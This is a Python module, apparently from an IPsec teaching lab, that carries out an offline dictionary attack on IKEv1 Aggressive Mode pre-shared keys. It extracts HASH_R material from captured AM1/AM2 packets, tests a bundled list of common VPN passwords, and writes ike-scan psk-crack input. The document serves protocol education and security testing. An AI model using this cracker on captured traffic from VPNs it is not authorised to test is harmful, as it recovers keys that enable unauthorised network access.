"""An offline dictionary attack on an Aggressive Mode pre-shared key, from AM1 and AM2 alone.

Why Aggressive Mode with a PSK is weak (RFC 2409 §5.4; ike-scan's psk-crack, Roy Hills, NTA
Monitor 2004-2013): AM2 carries HASH_R = prf(SKEYID, g^xr | g^xi | CKY-R | CKY-I | SAi_b | IDir_b)
with SKEYID = prf(PSK, Ni_b | Nr_b) (RFC 2409 §5), and every input but the key travels in the
clear in AM1 and AM2. An eavesdropper who saw them tries candidate keys at leisure, with no
further packet sent: the right one reproduces HASH_R. Main Mode hides the identities and HASH_R
inside encrypted MM5/MM6, so a passive observer cannot do this there.

This module is pure: `material_from_messages` (or `_from_capture`) picks the nine values psk-crack
reads out of the two plain messages, `crack` tries a word list with the engine's own PRF and
HASH_R (crypto.ike_keys), and `psk_crack_line` writes them in psk-crack's input format, so the
real tool can be run on the same capture: `psk-crack -d wordlist file`.
"""
from __future__ import annotations

from dataclasses import dataclass
from typing import Iterable

from ..capture_read import read_capture
from ..crypto.ike_keys import hash_r, skeyid_psk
from ..crypto.primitives import equal
from ..errors import DecodeError
from .packets import ip_parts
from .payloads import sa_v1, transform_facts, walk

AGGRESSIVE, SA_, KE, ID, HASH, NONCE = 4, 1, 4, 5, 8, 10
#: psk-crack tells the hash by HASH_R's length (MD5 or SHA-1); SHA-256 added the same way
HASH_BY_LENGTH = {16: "md5", 20: "sha1", 32: "sha256"}
PSK_CRACK_FIELDS = ("g_xr", "g_xi", "cky_r", "cky_i", "sai_b", "idir_b", "ni_b", "nr_b", "hash_r")

#: A tiny dictionary for the lesson (real ones hold millions of words; rockyou has 14 million):
#: common VPN group keys and passwords, with the lab's default key among them.
LESSON_WORDS = ("password", "123456", "cisco", "cisco123", "vpn", "vpnvpn", "ipsec", "secret", "letmein",
                "changeme", "admin", "qwerty", "test", "test123", "sharedsecret", "presharedkey", "psk",
                "welcome", "company", "firewall", "sonicwall", "fortinet", "l2tp", "l2tpvpn", "abc123",
                "natt", "nat-t", "natt-lab", "ikev1", "groupkey", "iloveyou", "monkey", "dragon")


@dataclass(frozen=True)
class HashRMaterial:
    """Everything HASH_R covers except the key, as bytes, and the hash it was made with."""
    g_xr: bytes
    g_xi: bytes
    cky_r: bytes
    cky_i: bytes
    sai_b: bytes
    idir_b: bytes
    ni_b: bytes
    nr_b: bytes
    hash_r: bytes
    hash_name: str
    idii_b: bytes = b""     #: the initiator's identity, also in the clear (not needed for the attack)

    def check(self, psk: bytes) -> bool:
        """Whether this key reproduces HASH_R: one guess, the engine's PRF and formula."""
        skeyid = skeyid_psk(self.hash_name, psk, self.ni_b, self.nr_b)
        guess = hash_r(self.hash_name, skeyid, self.g_xr, self.g_xi, self.cky_r, self.cky_i, self.sai_b,
                       self.idir_b)
        return equal(guess, self.hash_r)


@dataclass(frozen=True)
class CrackResult:
    psk: str | None       #: the key found, or None when no word fits
    guesses: int          #: how many words were tried (up to and including the right one)


def crack(material: HashRMaterial, words: Iterable[str]) -> CrackResult:
    """Try each word in order until one reproduces HASH_R (psk-crack's dictionary mode)."""
    tried = 0
    for word in words:
        tried += 1
        if material.check(word.encode()):
            return CrackResult(word, tried)
    return CrackResult(None, tried)


def _bodies(message: bytes, what: str) -> tuple[bytes, bytes, dict[int, bytes]]:
    """(CKY-I, CKY-R, first body of each payload type) of a plain Aggressive Mode message."""
    if len(message) < 28:
        raise DecodeError("ISAKMP header", 0, f"{what}: {len(message)} bytes, too short for an ISAKMP header")
    if message[18] != AGGRESSIVE or message[19] & 1:
        raise DecodeError("ISAKMP header", 18, f"{what}: not a plain Aggressive Mode message (exchange "
                                               f"{message[18]}, flags 0x{message[19]:02x})")
    payloads, broken = walk(message[16], message[28:int.from_bytes(message[24:28], "big")])
    if broken:
        raise DecodeError("ISAKMP", 28, f"{what}: {broken}")
    bodies: dict[int, bytes] = {}
    for p in payloads:
        bodies.setdefault(p.type, p.body)
    return message[:8], message[8:16], bodies


def material_from_messages(am1: bytes, am2: bytes) -> HashRMaterial:
    """The nine values from AM1 and AM2 as sent (ISAKMP messages, no non-ESP marker)."""
    cky_i, _, first = _bodies(am1, "AM1")
    cky_i2, cky_r, second = _bodies(am2, "AM2")
    if cky_i2 != cky_i:
        raise DecodeError("ISAKMP header", 0, "AM2 answers another exchange (initiator cookies differ)")
    missing = [n for n, (bodies, kind) in {"AM1 SA": (first, SA_), "AM1 KE": (first, KE), "AM1 Nonce": (first, NONCE),
                                           "AM2 SA": (second, SA_), "AM2 KE": (second, KE), "AM2 Nonce": (second, NONCE),
                                           "AM2 ID": (second, ID), "AM2 HASH": (second, HASH)}.items()
               if kind not in bodies]
    if missing:
        raise DecodeError("ISAKMP", 28, f"no {', '.join(missing)} payload: not a pre-shared-key Aggressive Mode pair")
    chosen = sa_v1(second[SA_])
    hash_name = None
    if chosen and chosen.proposals and chosen.proposals[0].transforms:
        hash_name = transform_facts(chosen.proposals[0].transforms[0])["hash"]
    hash_name = hash_name or HASH_BY_LENGTH.get(len(second[HASH]))
    if hash_name not in HASH_BY_LENGTH.values():
        raise DecodeError("ISAKMP", 28, f"AM2: hash {hash_name!r} is not one this attack knows")
    return HashRMaterial(g_xr=second[KE], g_xi=first[KE], cky_r=cky_r, cky_i=cky_i, sai_b=first[SA_],
                         idir_b=second[ID], ni_b=first[NONCE], nr_b=second[NONCE], hash_r=second[HASH],
                         hash_name=hash_name, idii_b=first.get(ID, b""))


def material_from_capture(data: bytes) -> HashRMaterial:
    """The first AM1/AM2 pair of a pcap or pcapng: what an eavesdropper on the path keeps."""
    am1: dict[bytes, bytes] = {}
    for captured in read_capture(data).packets:
        try:
            ip = ip_parts(captured.packet)
        except DecodeError:
            continue
        if ip.proto != 17 or len(ip.payload) < 8 + 28:
            continue
        ports = int.from_bytes(ip.payload[0:2], "big"), int.from_bytes(ip.payload[2:4], "big")
        ike = ip.payload[8:]
        if 4500 in ports:
            if ike[:4] != bytes(4):
                continue
            ike = ike[4:]
        if len(ike) < 28 or ike[18] != AGGRESSIVE or ike[19] & 1:
            continue
        if ike[8:16] == bytes(8):
            am1.setdefault(ike[:8], ike)
        elif ike[:8] in am1:
            return material_from_messages(am1[ike[:8]], ike)
    raise DecodeError("capture", 0, "no Aggressive Mode AM1/AM2 pair in this capture")


def psk_crack_line(m: HashRMaterial) -> str:
    """ike-scan's psk-crack input: the nine values in hex, colon-separated (`ike-scan --pskcrack`)."""
    return ":".join(getattr(m, f).hex() for f in PSK_CRACK_FIELDS)


def from_psk_crack_line(line: str) -> HashRMaterial:
    """Read one psk-crack input line; the hash is told by HASH_R's length, as psk-crack does."""
    parts = line.strip().split(":")
    if len(parts) != len(PSK_CRACK_FIELDS):
        raise DecodeError("psk-crack", 0, f"{len(parts)} fields, psk-crack lines have {len(PSK_CRACK_FIELDS)}")
    try:
        values = {f: bytes.fromhex(p) for f, p in zip(PSK_CRACK_FIELDS, parts)}
    except ValueError:
        raise DecodeError("psk-crack", 0, "a field is not hex") from None
    name = HASH_BY_LENGTH.get(len(values["hash_r"]))
    if name is None:
        raise DecodeError("psk-crack", 0, f"a {len(values['hash_r'])}-byte HASH_R matches no known hash")
    return HashRMaterial(**values, hash_name=name)
